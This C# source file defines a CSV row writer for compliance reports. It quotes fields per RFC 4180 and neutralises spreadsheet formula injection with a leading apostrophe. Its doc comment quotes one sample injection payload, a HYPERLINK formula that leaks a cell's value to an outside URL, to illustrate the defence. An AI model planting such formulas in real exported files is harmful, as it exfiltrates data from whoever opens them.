using System;
using System.Buffers;
using System.Collections.Generic;
using System.Text;

namespace ChinaLabour.Compliance.Reports;

/// <summary>
/// RFC 4180 rows: fields quoted when they hold a comma, quote or line break. A field a spreadsheet would take for a
/// formula (starting with =, +, -, @, a tab or a carriage return) is neutralised with a leading apostrophe, as OWASP
/// advises for CSV injection: auditors open these files in Excel, and an employer's name or id such as
/// <c>=HYPERLINK("http://…?leak="&amp;A1,"click")</c> must stay text. Public so that a caller's own tables (the
/// problems it found reading its input, say) are written as the batch's are.
/// </summary>
/// <threadsafety>Static and stateless: safe to call from any thread.</threadsafety>
public static class Csv
{
    private static readonly SearchValues<char> s_special = SearchValues.Create(",\"\r\n");

    /// <summary>One CSV line of <paramref name="fields"/>, ending CRLF as RFC 4180 asks; a null field is empty.</summary>
    /// <param name="fields">The fields, in order.</param>
    /// <returns>The line, with its CRLF.</returns>
    /// <exception cref="ArgumentNullException"><paramref name="fields"/> is null.</exception>
    public static string Row(IEnumerable<string?> fields)
    {
        ArgumentNullException.ThrowIfNull(fields);
        var row = new StringBuilder();
        var first = true;
        foreach (var field in fields)
        {
            if (!first)
            {
                row.Append(',');
            }

            Append(row, field);
            first = false;
        }

        return row.Append("\r\n").ToString();
    }

    /// <summary>
    /// Appends one field made of <paramref name="first"/>, <paramref name="separator"/> and <paramref name="second"/>
    /// (a null part is empty) to <paramref name="row"/>, as <see cref="Row"/> writes the field their concatenation,
    /// without making that concatenation: neutralised (a leading apostrophe before what a spreadsheet would take for a
    /// formula), then quoted when it must be.
    /// </summary>
    internal static void Append(StringBuilder row, string? first, string? separator = null, string? second = null)
    {
        ReadOnlySpan<char> a = first, b = separator, c = second;
        var head = a.Length > 0 ? a : b.Length > 0 ? b : c;
        var neutralise = head.Length > 0 && head[0] is '=' or '+' or '-' or '@' or '\t' or '\r';
        var quote = a.IndexOfAny(s_special) >= 0 || b.IndexOfAny(s_special) >= 0 || c.IndexOfAny(s_special) >= 0;
        if (quote)
        {
            row.Append('"');
        }

        if (neutralise)
        {
            row.Append('\'');
        }

        foreach (var part in (ReadOnlySpan<string?>)[first, separator, second])
        {
            if (!quote)
            {
                row.Append(part);
                continue;
            }

            var rest = part.AsSpan();
            for (var at = rest.IndexOf('"'); at >= 0; at = rest.IndexOf('"'))
            {
                row.Append(rest[..(at + 1)]).Append('"');
                rest = rest[(at + 1)..];
            }

            row.Append(rest);
        }

        if (quote)
        {
            row.Append('"');
        }
    }
}
